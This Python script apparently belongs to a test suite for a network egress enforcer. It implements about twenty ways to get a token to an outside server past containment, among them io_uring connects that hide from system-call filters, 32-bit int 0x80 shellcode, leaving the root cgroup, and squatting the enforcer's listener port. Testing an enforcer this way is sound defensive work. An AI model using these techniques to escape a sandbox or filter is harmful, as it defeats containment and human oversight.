"""Ways round: each function tries to bring TOKEN to the server by its own means.  Standard library only: this file is
run as it is by the system's Python, inside a workload and, as the control, outside of any.

usage: python3 techniques.py NAME TOKEN HOST4 HOST6 PORT [LISTENER_PORT]

It prints what it saw; the verdict is taken at the server, never here.  Exit 0: it believes that it got through.
"""
from __future__ import annotations

import ctypes
import os
import socket
import struct
import sys
import time

WAIT = 3.0                            # seconds for any one attempt
FASTOPEN = 0x20000000                 # MSG_FASTOPEN
libc = ctypes.CDLL(None, use_errno=True)


def tcp(token: bytes, family: int, host: str, port: int) -> None:
    with socket.socket(family) as s:
        s.settimeout(WAIT)
        s.connect((host, port))
        say(s, token)


def say(s: socket.socket, token: bytes) -> None:
    """The server echoes what it counts."""
    s.sendall(token + b"\n")
    got = s.recv(4096)
    if token not in got:
        raise OSError(f"no echo: {got[:80]!r}")


def plain_ipv4(token: bytes, to: Where) -> None:
    tcp(token, socket.AF_INET, to.host4, to.port)


def plain_ipv6(token: bytes, to: Where) -> None:
    tcp(token, socket.AF_INET6, to.host6, to.port)


def v4_mapped(token: bytes, to: Where) -> None:
    tcp(token, socket.AF_INET6, "::ffff:" + to.host4, to.port)


def fast_open_sendto(token: bytes, to: Where) -> None:
    with socket.socket() as s:
        for option in (socket.SO_RCVTIMEO, socket.SO_SNDTIMEO):      # a blocking socket: else EINPROGRESS
            s.setsockopt(socket.SOL_SOCKET, option, struct.pack("ll", int(WAIT), 0))
        s.sendto(token + b"\n", FASTOPEN, (to.host4, to.port))
        if token not in s.recv(4096):
            raise OSError("no echo")


def fast_open_connect(token: bytes, to: Where) -> None:
    with socket.socket() as s:
        s.settimeout(WAIT)
        s.setsockopt(socket.IPPROTO_TCP, 30, 1)          # TCP_FASTOPEN_CONNECT
        s.connect((to.host4, to.port))
        say(s, token)


def multipath(token: bytes, to: Where) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262) as s:      # IPPROTO_MPTCP
        s.settimeout(WAIT)
        s.connect((to.host4, to.port))
        say(s, token)


def udp(token: bytes, to: Where) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(WAIT)
        s.sendto(token + b"\n", (to.host4, to.port))
        if token not in s.recv(4096):
            raise OSError("no echo")


def udp_connected(token: bytes, to: Where) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(WAIT)
        s.connect((to.host4, to.port))
        say(s, token)


def udp_ipv6(token: bytes, to: Where) -> None:
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as s:
        s.settimeout(WAIT)
        s.sendto(token + b"\n", (to.host6, to.port))
        if token not in s.recv(4096):
            raise OSError("no echo")



def io_uring_connect(token: bytes, to: Where) -> None:
    """IORING_OP_CONNECT: no connect(2) for a system-call filter to see.  Layouts: linux/io_uring.h."""
    with socket.socket() as s:
        ring = Ring()
        name = struct.pack("<HH4s8x", socket.AF_INET, socket.htons(to.port), socket.inet_aton(to.host4))
        ring.connect(s.fileno(), name)
        s.settimeout(WAIT)
        say(s, token)


class Ring:
    """One submission, one completion."""

    def __init__(self) -> None:
        import mmap

        parameters = bytearray(120)
        raw = (ctypes.c_char * 120).from_buffer(parameters)
        self.fd = libc.syscall(425, 4, raw)                # io_uring_setup
        if self.fd < 0:
            raise OSError(ctypes.get_errno(), "io_uring_setup")
        # sq_off at 40: head tail ring_mask ring_entries flags dropped array
        # cq_off at 80: head tail ring_mask ring_entries overflow cqes
        self.sq = struct.unpack_from("<7I", parameters, 40)
        self.cq = struct.unpack_from("<6I", parameters, 80)
        size = max(self.sq[6] + 4 * 4, self.cq[5] + 8 * 16)
        self.rings = mmap.mmap(self.fd, size, mmap.MAP_SHARED | mmap.MAP_POPULATE, offset=0)
        self.entries = mmap.mmap(self.fd, 4 * 64, mmap.MAP_SHARED | mmap.MAP_POPULATE, offset=0x10000000)

    def connect(self, descriptor: int, name: bytes) -> None:
        keep = ctypes.create_string_buffer(name, len(name))
        entry = struct.pack("<BBHiQQIIQ", 16, 0, 0, descriptor, len(name), ctypes.addressof(keep), 0, 0, 1)
        self.entries[0:64] = entry + bytes(24)
        struct.pack_into("<I", self.rings, self.sq[6], 0)
        struct.pack_into("<I", self.rings, self.sq[1], 1)
        if libc.syscall(426, self.fd, 1, 1, 1, None, 0) < 0:    # io_uring_enter, GETEVENTS
            raise OSError(ctypes.get_errno(), "io_uring_enter")
        result = struct.unpack_from("<Qi", self.rings, self.cq[5])[1]
        if result < 0:
            raise OSError(-result, os.strerror(-result))


def double_fork(token: bytes, to: Where) -> None:
    in_child(lambda: in_child(lambda: plain_ipv4(token, to)))


def new_session(token: bytes, to: Where) -> None:
    def leave() -> None:
        os.setsid()
        in_child(lambda: plain_ipv4(token, to))

    in_child(leave)


def thread_of_dead_leader(token: bytes, to: Where) -> None:
    """The main thread ends first; another one connects."""
    import threading

    def later() -> None:
        time.sleep(0.2)
        try:
            plain_ipv4(token, to)
            os._exit(0)
        except OSError as error:
            print(error, flush=True)
            os._exit(1)

    def leader() -> None:
        threading.Thread(target=later).start()
        libc.syscall(60, 0)                                # exit(2): this thread only
    in_child(leader)


def leave_cgroup(token: bytes, to: Where) -> None:
    """Into the root of the hierarchy, by every door that is open, then connect."""
    for root in ("/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/unified/cgroup.procs"):
        try:
            with open(root, "w") as procs:
                procs.write("0")
        except OSError as error:
            print(root, error, flush=True)
    plain_ipv4(token, to)


def raw_ip(token: bytes, to: Where) -> None:
    """A UDP datagram made by hand."""
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP) as s:
        body = token + b"\n"
        s.sendto(struct.pack(">HHHH", 40404, to.port, 8 + len(body), 0) + body, (to.host4, 0))


def packet_socket(token: bytes, to: Where) -> None:
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW):
        print("AF_PACKET opened", flush=True)


def bind_to_device(token: bytes, to: Where) -> None:
    with socket.socket() as s:
        s.settimeout(WAIT)
        for _, name in socket.if_nameindex():
            if name != "lo":
                s.setsockopt(socket.SOL_SOCKET, 25, name.encode())
        s.connect((to.host4, to.port))
        say(s, token)


def disconnect_and_again(token: bytes, to: Where) -> None:
    """connect, AF_UNSPEC, connect again on the same socket."""
    with socket.socket() as s:
        s.settimeout(WAIT)
        for _ in range(2):
            try:
                s.connect((to.host4, to.port))
            except OSError as error:
                print(error, flush=True)
            unspecified = ctypes.create_string_buffer(16)
            libc.connect(s.fileno(), unspecified, 16)
        s.connect((to.host4, to.port))
        say(s, token)


def by_the_listener(token: bytes, to: Where) -> None:
    """Dial the enforcer's listener by hand and speak to it as if it were the server."""
    tcp(token, socket.AF_INET, "127.0.0.1", to.listener)


def bind_the_listener(token: bytes, to: Where) -> None:
    """Squat the enforcer's port: whoever binds it gets what others are redirected to."""
    for family, host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET, ""), (socket.AF_INET6, "::1")):
        with socket.socket(family) as s:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
            s.bind((host, to.listener))
            s.listen()
            print("bound", host, to.listener, flush=True)


def socketcall_32(token: bytes, to: Where) -> None:
    """int 0x80 socketcall from a 64-bit program: a filter that checks only x86_64 numbers misses it."""
    import mmap

    # mov eax,102; mov ebx,1 (SYS_SOCKET); mov ecx,ARGS; int 0x80; ret -- arguments below 4 GiB
    low = mmap_low()
    struct.pack_into("<III", (ctypes.c_char * 64).from_address(low), 0, socket.AF_INET, socket.SOCK_STREAM, 0)
    code = b"\x53\xb8\x66\0\0\0\xbb\x01\0\0\0\xb9" + struct.pack("<I", low) + b"\xcd\x80\x5b\x48\x98\xc3"
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    made = ctypes.CFUNCTYPE(ctypes.c_long)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
    if made < 0:
        raise OSError(-made, os.strerror(-made))
    with socket.socket(fileno=made) as s:
        s.settimeout(WAIT)
        s.connect((to.host4, to.port))
        say(s, token)


def mmap_low() -> int:
    libc.mmap.restype = ctypes.c_void_p
    got = libc.mmap(None, ctypes.c_size_t(4096), 3, 0x62, -1, ctypes.c_long(0))     # MAP_PRIVATE|ANONYMOUS|32BIT
    if got is None or got >= 1 << 32:
        raise OSError("no memory below 4 GiB")
    return int(got)


def in_child(work: object) -> None:
    """Run it in a child; OSError where it did not get through."""
    sys.stdout.flush()
    pid = os.fork()
    if pid == 0:
        try:
            work()  # type: ignore[operator]
            os._exit(0)
        except OSError as error:
            print(error, flush=True)
        finally:
            os._exit(1)
    if os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]):
        raise OSError("the child did not get through")


class Where:
    def __init__(self, host4: str, host6: str, port: int, listener: int) -> None:
        self.host4, self.host6, self.port, self.listener = host4, host6, port, listener


TECHNIQUES = {
    work.__name__.replace("_", "-"): work
    for work in (
        plain_ipv4, plain_ipv6, v4_mapped, fast_open_sendto, fast_open_connect, multipath, udp, udp_connected, udp_ipv6,
        io_uring_connect, double_fork, new_session, thread_of_dead_leader, leave_cgroup, raw_ip,
        packet_socket, bind_to_device, disconnect_and_again, by_the_listener, bind_the_listener, socketcall_32,
    )
}


def main(argv: list[str]) -> int:
    name, token, host4, host6, port = argv[1:6]
    to = Where(host4, host6, int(port), int(argv[6]) if len(argv) > 6 else 0)
    try:
        TECHNIQUES[name](token.encode(), to)
    except OSError as error:
        print(f"{name}: {error}", flush=True)
        return 1
    print(f"{name}: through", flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
